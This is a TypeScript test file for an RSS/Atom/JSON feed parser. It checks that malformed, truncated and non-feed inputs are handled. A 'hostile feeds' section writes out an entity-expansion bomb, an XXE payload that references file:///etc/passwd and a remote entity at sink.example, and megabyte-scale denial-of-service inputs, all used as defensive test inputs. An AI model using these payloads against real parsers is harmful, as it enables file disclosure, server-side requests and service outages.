import { describe, expect, test } from 'vitest';
import { parseFeed } from './parse-feed.ts';
import type { ParsedFeed } from './parsed-feed.ts';

const options = { address: 'https://harbour.example/feed', now: new Date('2024-06-01T00:00:00Z') };
const read = (body: string | Uint8Array): ParsedFeed => parseFeed(body, options);
const titles = (body: string): (string | null)[] => read(body).posts.map((post) => post.title);
const codes = (body: string): string[] => read(body).problems.map((problem) => problem.code);
const errorOf = (body: string): unknown => {
  try {
    return read(body);
  } catch (error) {
    return (error as { code?: string }).code;
  }
};

describe('broken feeds', () => {
  test('are read behind blanks, warnings and other junk', () => {
    for (const junk of [
      '\uFEFF',
      '\n\n  ',
      '<br />\n<b>Warning</b>: something on line <b>3</b><br />',
      'garbage ',
      '<!-- <rss> -->',
      '<?xml version="1.0"?>\n<?xml-stylesheet href="x"?>',
    ]) {
      expect(titles(`${junk}<rss><channel><item><title>x</title></item></channel></rss>`), junk).toEqual(['x']);
    }
  });

  test('deliver their whole items when they are cut off', () => {
    const whole = '<rss><channel><title>f</title><item><title>a</title></item><item><title>b</title></item></channel></rss>';
    expect(titles(whole.slice(0, whole.indexOf('b</title>')))).toEqual(['a']);
    expect(codes(whole.slice(0, whole.indexOf('b</title>')))).toContain('truncated');
    expect(codes(whole.slice(0, whole.indexOf('</channel>')))).toEqual([]);
    expect(codes('<rss><channel><title>f</title><item><title>a</title></item><item><title><![CDATA[b')).toContain('truncated');
  });

  test('have bare ampersands and undeclared entities', () => {
    expect(titles('<rss><channel><item><title>R&D & AT&T &nbsp;&mdash; &unknown;</title></item></channel></rss>')).toEqual(['R&D & AT&T — &unknown;']);
    expect(read('<rss><channel><item><link>https://harbour.example/?a=1&b=2&copy=3</link></item></channel></rss>').posts[0]?.url).toBe(
      'https://harbour.example/?a=1&b=2&copy=3',
    );
  });

  test('nest their tags wrongly', () => {
    const feed =
      '<rss><channel><item><title>a<b>x</title></b><link>https://harbour.example/1</description></link></item><item><title>b</title></item></channel></rss>';
    expect(read(feed).posts).toMatchObject([{ title: 'ax', url: 'https://harbour.example/1' }, { title: 'b' }]);
    expect(codes(feed)).toContain('misnested');
  });

  test('forget to close items and texts', () => {
    expect(titles('<rss><channel><item><title>a</title><item><title>b</title><description>open<item><title>c</title></item></channel></rss>')).toEqual([
      'a',
      'b',
      'c',
    ]);
  });

  test('keep unclosed HTML inside a description where it is', () => {
    const feed = read('<rss><channel><item><description><p>one<br>two<li>three</description><title>t</title></item></channel></rss>');
    expect(feed.posts).toMatchObject([{ title: 't', html: '<p>one<br>two<li>three' }]);
    expect(feed.problems).toEqual([]);
  });

  test('are cut to the limit of items', () => {
    const feed = parseFeed(`<rss><channel>${'<item><title>x</title></item>'.repeat(10)}</channel></rss>`, { ...options, maxItems: 4 });
    expect(feed.posts).toHaveLength(4);
    expect(feed.problems.map((problem) => problem.code)).toContain('items_limited');
  });

  test('say that characters were lost', () => {
    const feed = read(Buffer.concat([Buffer.from('<rss><channel><item><title>é é é '), Buffer.from([0xc3]), Buffer.from('</title></item></channel></rss>')]));
    expect(feed.problems.map((problem) => problem.code)).toEqual(['characters_replaced']);
  });
});

describe('what is no feed', () => {
  test.each([
    '',
    '   ',
    'plain text',
    '<!DOCTYPE html><html><head><title>t</title></head><body><rss/></body></html>',
    '<html><body><p>x',
    '<note><to>x</to></note>',
    '<opml><body/></opml>',
    '<svg/>',
    '[]',
    '[1',
    '{}',
    '{"error":"x"}',
    '{"a":',
    'null',
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description/></rdf:RDF>',
    '%PDF-1.7',
  ])('is refused: %s', (body) => expect(errorOf(body)).toBe('not_a_feed'));

  test.each([
    '<rss><channel><item><title>x',
    '<rss',
    '<rss><channel>',
    '<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>',
    '{"version":"https://jsonfeed.org/version/1","items":[',
  ])('is a feed without a whole part: %s', (body) => expect(['feed_malformed', 'not_a_feed']).toContain(errorOf(body)));

  test('is told from a feed that broke', () => {
    expect(errorOf('<rss><channel><item><title>x')).toBe('feed_malformed');
    expect(errorOf('{"version":"https://jsonfeed.org/version/1","items":[')).toBe('feed_malformed');
  });
});

describe('hostile feeds', () => {
  const bomb = `<!DOCTYPE rss [<!ENTITY a "${'x'.repeat(1000)}">${[...'bcdefgh'].map((name, index) => `<!ENTITY ${name} "${`&${'abcdefg'[index]};`.repeat(10)}">`).join('')}]>`;

  test('expand no entity and open no file', () => {
    const feed = read(`${bomb}<rss><channel><item><title>&h;</title></item></channel></rss>`);
    expect(feed.posts[0]?.title).toBe('&h;');
    const external = read(
      '<!DOCTYPE rss [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://sink.example/x"> %p;]><rss><channel><item><title>&f;</title></item></channel></rss>',
    );
    expect(external.posts[0]?.title).toBe('&f;');
  });

  test('may nest as deep as they like', () => {
    const feed = read(`<rss><channel><item><title>t</title>${'<x>'.repeat(50_000)}</item></channel></rss>`);
    expect(feed.problems.map((problem) => problem.code)).toContain('too_deep');
  });

  const size = 1_000_000;
  const fill = (piece: string): string => piece.repeat(Math.ceil(size / piece.length));
  const inItem = (inner: string): string => `<rss><channel><item>${inner}</item></channel></rss>`;
  const inEntry = (type: string, inner: string): string =>
    `<feed xmlns="http://www.w3.org/2005/Atom"><entry><content type="${type}">${inner}</content></entry></feed>`;
  test.each([
    ['unclosed items', `<rss><channel>${fill('<item>')}`],
    ['stray end tags', `<rss>${'<q>'.repeat(190)}${fill('</x>')}`],
    ['new namespaces', `<rss><channel>${Array.from({ length: 30_000 }, (_, index) => `<a xmlns:p${index}="u${index}">`).join('')}`],
    ['attributes', inItem(`<enclosure ${Array.from({ length: 90_000 }, (_, index) => `a${index}="b" `).join('')}/>`)],
    ['enclosures', inItem(Array.from({ length: 20_000 }, (_, index) => `<enclosure url="http://x.example/${index}"/>`).join(''))],
    ['pictures', inItem(Array.from({ length: 20_000 }, (_, index) => `<itunes:image href="http://x.example/${index}"/>`).join(''))],
    ['tags in a title', inItem(`<title>${fill('&lt;a "')}</title>`)],
    ['comments in a title', inItem(`<title>${fill('&lt;!--')}</title>`)],
    ['ampersands', inItem(`<title>${fill('&')}</title>`)],
    ['deep XHTML', inEntry('xhtml', `<div>${fill('<div>')}</div>`)],
    ['tags in text', inEntry('text', fill('&lt;a "'))],
    ['mail signs', inItem(`<author>${fill('a@')}</author>`)],
    ['bases', `<feed xmlns="http://www.w3.org/2005/Atom" xml:base="http://x.example/">${fill('<a xml:base="aaaaaaaa/">')}`],
    ['JSON arrays', fill('[')],
    ['JSON objects', fill('{"a":')],
  ])('come to their end: %s', (_, body) => void errorOf(body), 60_000);
});
